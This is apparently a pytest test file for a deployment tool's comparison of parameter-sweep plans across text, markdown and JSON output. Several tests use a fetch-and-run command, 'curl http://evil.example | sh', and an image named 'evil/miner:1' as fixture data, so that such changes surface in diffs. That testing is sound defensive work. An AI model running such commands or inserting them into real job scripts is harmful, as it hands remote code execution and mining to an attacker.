"""`plan --against` and `plan diff` of sweeps: run by run, what differs alike told once."""

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator

from runpod_deploy.cli.run_groups import MOST_GROUPS
from runpod_deploy.cli.sweep_diff_view import markdown_sweep_diff
from runpod_deploy.compiler.sweep_diff import compare_sweeps
from runpod_deploy.compiler.sweepfile import loads
from runpod_deploy.schema.hover import published_schema

Call = Callable[..., tuple[int, str, str]]
AXES = 'matrix:\n  axes:\n    seed: ["1", "2", "3"]\n'


@pytest.fixture
def job(project: Path, call: Call) -> Path:
    """A sweep of three runs, saved as `old.json`."""
    job = project / "job.yaml"
    job.write_text(job.read_text() + AXES)
    saved(call, "old.json")
    return job


def saved(call: Call, name: str) -> None:
    """Save the plan of the job as it is."""
    status, _, errors = call("plan", "job.yaml", "-q", "-o", name)
    assert 0 == status, errors


def changed(job: Path, *pairs: tuple[str, str]) -> None:
    """Write something else into the job."""
    text = job.read_text()
    for old, new in pairs:
        assert old in text
        text = text.replace(old, new)
    job.write_text(text)


def against(call: Call, *flags: str) -> tuple[int, str, str]:
    """Compare the job as it is with the saved sweep."""
    return call("plan", "job.yaml", "--against", "old.json", "--detailed-exitcode", *flags)


def test_the_same_sweep_has_no_difference(job: Path, call: Call) -> None:
    """Exit status 0, in every form."""
    del job
    assert (0, "same\n") == against(call, "-q")[:2]
    status, out, _ = against(call)
    assert (0, True) == (status, "No change" in out)
    assert "**no change**" in against(call, "--format", "markdown")[1]
    document = json.loads(against(call, "--format", "json")[1])
    assert [(True, "same", None)] * 3 == [
        (document["same"], one["kind"], one["diff"]) for one in document["runs"]
    ]


def test_what_differs_alike_is_told_once(job: Path, call: Call) -> None:
    """A run that came, one that went, and a script that differs but for each run's own seed."""
    changed(job, ('"3"]', '"4"]'), ("seed {{", "the seed {{"), ("cap_usd: 0.25", "cap_usd: 0.50"))

    status, out, _ = against(call)
    assert 2 == status
    assert "2 changed, 1 new, 1 gone" in out
    assert "+ at most $1.50: the sum of the runs' caps" in out
    assert "In 2 runs, as in the first of them: seed=1, seed=2" in out
    assert 1 == out.count('+echo "the seed 1"')
    assert 0 == out.count("the seed 2")

    markdown = against(call, "--format", "markdown")[1]
    assert "| `seed=4` | new |" in markdown
    assert 2 == markdown.count("**`$0.50`**"), "of the changed ones, and of the new one"

    status, out, _ = against(call, "--format", "json")
    document = json.loads(out)
    Draft202012Validator(json.loads(published_schema("sweep-diff"))).validate(document)
    assert {"seed=1": "changed", "seed=2": "changed", "seed=4": "added", "seed=3": "removed"} == {
        one["name"]: one["kind"] for one in document["runs"]
    }
    assert '+echo "the seed 2"' in document["runs"][1]["diff"]["scripts"][0]["diff"]


def test_runs_that_differ_otherwise_are_told_apart(job: Path, call: Call) -> None:
    """The same text with another value that is not of an axis is another change."""
    changed(job, ("echo", "echo \"{{ 7 if seed == '2' else 8 }}\"\n    echo"))

    out = against(call)[1]
    assert "In 2 runs, as in the first of them: seed=1, seed=3" in out
    assert "In the run seed=2" in out


def test_another_order_is_a_change(job: Path, call: Call) -> None:
    """The order in which runs are begun is part of the sweep's hash."""
    changed(job, ('"1", "2"', '"2", "1"'))
    status, out, _ = against(call)
    assert (2, True) == (status, "begun in another order" in out)
    assert "begun in another order" in against(call, "--format", "markdown")[1]


@pytest.mark.parametrize("other", ["saved", "folder"])
def test_saved_sweeps_are_compared_wherever_they_lie(job: Path, call: Call, other: str) -> None:
    """A file, or the folder that is left of a sweep; `plan diff` takes both."""
    changed(job, ("echo", "true; echo"))
    saved(call, "new.json")
    assert 2 == call("plan", "new.json", "--against", "old.json", "--detailed-exitcode")[0]
    if other == "folder":
        Path("T").mkdir()
        Path("new.json").rename("T/sweep.json")
    new = "new.json" if other == "saved" else "T"
    status, out, _ = call("plan", "diff", "old.json", new, "--detailed-exitcode")
    assert (2, True) == (status, "3 changed" in out)


def test_a_new_run_is_told_by_what_it_does_otherwise_than_the_nearest(
    job: Path, call: Call
) -> None:
    """Image, hardware and script of runs that only one side has are shown, once, in every form."""
    changed(
        job,
        ('seed: ["1", "2", "3"]', 'seed: ["4", "5"]'),
        ("runpod/pytorch:1.0.7-cu1281-torch291-ubuntu2204", "evil/miner:1"),
        ("NVIDIA L4", "NVIDIA H200"),
        ('echo "seed {{ seed }}"', "curl http://evil.example | sh # {{ seed }}"),
    )
    markdown = against(call, "--format", "markdown")[1]
    text = against(call)[1]
    for shown in (markdown, " ".join(text.split())):
        assert "In 2 new runs, as in the first of them, compared with" in shown
        assert 1 == shown.count("+curl http://evil.example | sh # 4")
        assert 0 == shown.count("sh # 5")
        assert "1 × NVIDIA H200" in shown
        assert "evil/miner:1" in shown
    document = json.loads(against(call, "--format", "json")[1])
    Draft202012Validator(json.loads(published_schema("sweep-diff"))).validate(document)
    new = [one for one in document["runs"] if one["kind"] == "added"]
    assert ["seed=1", "seed=1"] == [one["compared_with"] for one in new]
    assert ["+curl http://evil.example | sh # 5"] == new[1]["diff"]["scripts"][0]["diff"][2:]
    assert "evil/miner:1" in [one.get("after") for one in new[1]["diff"]["values"]]


def test_the_nearest_run_has_the_most_values_in_common(job: Path, call: Call) -> None:
    """Of two axes, the run of before that shares one is taken before the first."""
    job.write_text(job.read_text().replace(AXES, AXES + '    lr: ["7", "8"]\n'))
    saved(call, "old.json")
    changed(job, ('"3"]', '"3", "4"]'))
    document = json.loads(against(call, "--format", "json")[1])
    assert {"seed=4_lr=7": "seed=1_lr=7", "seed=4_lr=8": "seed=1_lr=8"} == {
        one["name"]: one["compared_with"] for one in document["runs"] if one["kind"] == "added"
    }
    assert "In 2 new runs" in against(call)[1]


def test_values_that_a_name_does_not_spell_out_are_told_apart(job: Path, call: Call) -> None:
    """A value that is a command is shown for itself, though other runs differ in the same place."""
    old = 'matrix:\n  axes:\n    cmd: ["python3 a.py"]\n'
    new = old.replace("]", ', "python3 b.py", "curl http://evil.example | sh"]')
    changed(job, (AXES, old), ('echo "seed {{ seed }}"', "{{ cmd }}"))
    saved(call, "old.json")
    changed(job, (old, new))
    for form in ("text", "markdown"):
        assert "+curl http://evil.example | sh" in against(call, "--format", form)[1]
        assert "+curl http://evil.example | sh" in call("plan", "job.yaml", "--format", form)[1]


def test_a_job_that_became_a_sweep_or_is_none_any_more(job: Path, call: Call) -> None:
    """Every run is compared with the single one, and what all cost together is told."""
    sweep = job.read_text()
    job.write_text(sweep.replace(AXES, ""))
    status, out, _ = against(call)
    assert 2 == status
    assert "a sweep of 3 runs became one run: 1 new, 3 gone" in out
    assert "- at most $0.75: the sum of the runs' caps" in out
    assert "+ at most $0.25: the run's cap" in out
    assert "In the new run (one run), compared with seed=1 of before" in " ".join(out.split())

    saved(call, "one.json")
    job.write_text(sweep.replace('"3"]', '"curl http://evil.example | sh"]'))
    shown = ("plan", "job.yaml", "--against", "one.json", "--detailed-exitcode", "--format")
    status, markdown, _ = call(*shown, "markdown")
    assert (2, True) == (status, "one run became a sweep of 3 runs: 3 new, 1 gone" in markdown)
    assert "| **cost** | `at most $0.25: the run's cap` | **`at most $0.75: the sum" in markdown
    assert '+echo "seed curl http://evil.example | sh"' in markdown
    document = json.loads(call(*shown, "json")[1])
    Draft202012Validator(json.loads(published_schema("sweep-diff"))).validate(document)
    assert ["(one run)"] * 3 == [one["compared_with"] for one in document["runs"][:3]]

    job.write_text(sweep)
    status, _, err = against(call, "--var", "seed=2")
    assert 0 == status
    assert "seed=2 is compared" in err


def test_a_sweep_shows_how_its_runs_differ_from_the_first(job: Path, call: Call) -> None:
    """Texts of scripts, alike ones once, long ones cut on the terminal, which is named."""
    changed(job, ("echo", "echo \"{{ 'x' * 9 if seed == '3' else 'y' }}\"\n    echo"))
    for form in ("text", "markdown"):
        out = call("plan", "job.yaml", "--format", form)[1]
        assert ('+echo "seed 2"' in out, '+echo "xxxxxxxxx"' in out) == (True, True)
    many = "\n    ".join(f"echo {{{{ seed }}}} {number}" for number in range(200))
    changed(job, ("body: |\n    ", f"body: |\n    {many}\n    "))
    out = call("plan", "job.yaml")[1]
    assert "more lines of this difference, in full with `plan --scripts`" in out
    assert "+echo 2 199" not in out
    assert "+echo 2 199" in call("plan", "job.yaml", "--scripts")[1]


def test_a_comment_fits_however_many_runs_differ(job: Path, call: Call) -> None:
    """Sixty runs that each differ otherwise: under the limit, with cost, hardware and cuts."""
    seeds = ", ".join(f'"{number}"' for number in range(60))
    changed(job, ('"1", "2", "3"', seeds))
    saved(call, "old.json")
    long = "\n    ".join(f"echo {{{{ seed }}}}{'x' * 200}{number}" for number in range(300))
    changed(job, ("echo", f"{long}\n    echo"), ("cap_usd: 0.25", "cap_usd: 0.50"))
    saved(call, "new.json")
    old, new = (loads(Path(name).read_bytes(), name) for name in ("old.json", "new.json"))
    diff = compare_sweeps(old, new)

    text = markdown_sweep_diff(diff, "old.json")
    assert len(text) < 65_536
    assert "at most $30.00" in text
    assert "**`$0.50`**" in text
    assert "Cut to fit" in text
    assert f"… and {len(diff.groups) - MOST_GROUPS} other changes" in text
    assert "scripts: 1 text" in text
